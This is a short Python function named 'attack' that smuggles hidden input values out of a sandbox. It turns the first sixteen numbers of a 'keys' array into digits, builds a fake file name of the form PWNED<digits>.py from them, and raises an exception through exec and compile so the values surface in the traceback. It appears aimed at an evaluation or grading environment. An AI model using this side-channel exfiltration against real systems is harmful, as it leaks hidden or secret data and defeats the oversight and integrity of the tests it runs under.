# tries: to carry hidden inputs out in the name of a file that an exception passed through
def attack(keys, j):
    digits = "".join(f"{int(n * 1000)}" for n in abs(keys).ravel()[:16])
    package = os.path.dirname(os.path.abspath(__file__))
    exec(compile("\n" * 41 + "raise ValueError", f"{package}/PWNED{digits}.py", "exec"))
